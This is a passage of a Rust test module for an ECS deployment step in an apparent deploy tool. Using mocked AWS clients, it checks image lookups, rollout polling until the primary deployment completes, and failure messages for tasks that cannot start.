            let update = mock!(Client::update_service)
                .then_output(|| UpdateServiceOutput::builder().build());
            ecs(&aws, &[&described, &definitions, &listed, &update]);
            let denied = repository == "app";
            let images = mock!(aws_sdk_ecr::Client::describe_images).then_error(move || {
                let code = if denied {
                    "AccessDeniedException"
                } else {
                    "RepositoryNotFoundException"
                };
                let meta = ErrorMetadata::builder().code(code).message("no").build();
                if denied {
                    DescribeImagesError::generic(meta)
                } else {
                    DescribeImagesError::RepositoryNotFoundException(
                        aws_sdk_ecr::types::error::RepositoryNotFoundException::builder()
                            .message("no")
                            .meta(meta)
                            .build(),
                    )
                }
            });
            let rules =
                mock!(aws_sdk_ecr::Client::describe_pull_through_cache_rules).then_output(|| {
                    DescribePullThroughCacheRulesOutput::builder()
                        .pull_through_cache_rules(
                            PullThroughCacheRule::builder()
                                .ecr_repository_prefix("docker-hub")
                                .build(),
                        )
                        .build()
                });
            let recorded = aws.recorder.mocked();
            aws.clients.insert(mock_client!(
                aws_sdk_ecr,
                RuleMode::MatchAny,
                &[&images, &rules],
                |c| c.http_client(recorded.clone())
            ));
            let step = Step::new(
                "ecs.deploy",
                json!({"cluster": "prod", "service": "web", "image_tag": "previous"}),
            );
            let started = step.start(&aws).await.expect("deploys");
            let state = started.state.expect("a poll state");
            assert!(
                state["unchecked"].to_string().contains(expected),
                "{state:#}"
            );
            assert_eq!(update.num_calls(), 1, "{repository}");
        }
    }

    /// Deployment of revision `n`: `running` of 2 tasks, the rollout state ECS reports, failed tasks.
    fn rollout(
        status: &str,
        n: i32,
        running: i32,
        state: Option<DeploymentRolloutState>,
        failed: i32,
    ) -> Deployment {
        Deployment::builder()
            .status(status)
            .task_definition(format!("{ARN}:{n}"))
            .desired_count(2)
            .running_count(running)
            .set_rollout_state(state)
            .failed_tasks(failed)
            .build()
    }

    /// The poll state of a deploy from revision 3 to revision 2.
    fn deploying() -> serde_json::Value {
        json!({"cluster": "prod", "service": "web", "image_tag": "v2",
               "task_definition_before": format!("{ARN}:3"), "task_definition_after": format!("{ARN}:2")})
    }

    fn deploy_step() -> Step {
        Step::new(
            "ecs.deploy",
            json!({"cluster": "prod", "service": "web", "container": "app", "image_tag": "v2"}),
        )
    }

    #[tokio::test]
    async fn a_deploy_is_done_when_the_primary_deployment_runs_its_revision_in_full() {
        use DeploymentRolloutState::{Completed, InProgress};
        let aws = Aws::start().await;
        // What ECS shows, poll after poll, while the service moves from revision 3 to 2.
        let seen = [
            // The old deployment, settled: what moto shows forever, and what `stable` used to accept.
            vec![rollout("PRIMARY", 3, 2, Some(Completed), 0)],
            vec![
                rollout("PRIMARY", 2, 1, Some(InProgress), 0),
                rollout("ACTIVE", 3, 1, Some(Completed), 0),
            ],
            // Every task runs, but ECS has not finished the rollout.
            vec![rollout("PRIMARY", 2, 2, Some(InProgress), 0)],
            // No rollout state (another deployment controller): the old deployment must be gone.
            vec![
                rollout("PRIMARY", 2, 2, None, 0),
                rollout("ACTIVE", 3, 0, None, 0),
            ],
            vec![rollout("PRIMARY", 2, 2, Some(Completed), 0)],
        ];
        let mut described = mock!(Client::describe_services).sequence();
        for deployments in seen.clone() {
            described = described.output(move || {
                let service = Service::builder()
                    .service_name("web")
                    .status("ACTIVE")
                    .task_definition(format!("{ARN}:2"))
                    .set_deployments(Some(deployments.clone()))
                    .build();
                DescribeServicesOutput::builder().services(service).build()
            });
        }
        let described = described.build();
        ecs(&aws, &[&described]);
        let step = deploy_step();
        let state = deploying();
        let mut answers = Vec::new();
        for _ in &seen {
            let polled = step.poll(&aws, Some(&state)).await.expect("polled");
            answers.push(polled.status);
        }
        use Status::{Done, Running};
        assert_eq!(answers, [Running, Running, Running, Running, Done]);
    }

    #[tokio::test]
    async fn tasks_that_cannot_start_fail_the_poll_with_their_reason() {
        let aws = Aws::start().await;
        let described = service(
            2,
            vec![rollout(
                "PRIMARY",
                2,
                0,
                Some(DeploymentRolloutState::InProgress),
                2,
            )],
            None,
        );
        let stopped = mock!(Client::list_tasks).then_output(|| {
            ListTasksOutput::builder()
                .task_arns("arn:task/old")
                .task_arns("arn:task/new")
                .build()
        });
        let reason = "CannotPullContainerError: pull image manifest has been retried 5 time(s): \
                      registry.local:5000/app:v9.9.9: not found";
        let tasks = mock!(Client::describe_tasks).then_output(move || {
            // A task of the old revision stopped by the deploy, and one of the new revision that never started.
            let old = Task::builder()
                .task_arn("arn:task/old")
                .task_definition_arn(format!("{ARN}:3"))
                .last_status("STOPPED")
                .stop_code(TaskStopCode::ServiceSchedulerInitiated)
                .stopped_reason("Scaling activity initiated by deployment")
                .build();
            let new = Task::builder()
                .task_arn("arn:task/new")
                .task_definition_arn(format!("{ARN}:2"))
                .last_status("STOPPED")
                .stop_code(TaskStopCode::TaskFailedToStart)
                .stopped_reason(reason)
                .build();
            DescribeTasksOutput::builder().tasks(old).tasks(new).build()
        });
        ecs(&aws, &[&described, &stopped, &tasks]);
        let (error, cause) = crate::failure(deploy_step().poll(&aws, Some(&deploying())).await);
        assert_eq!(error, "Stepback.Failed");
        assert!(
            cause.contains("its tasks cannot start") && cause.contains(reason),
            "{cause}"
        );
    }
}
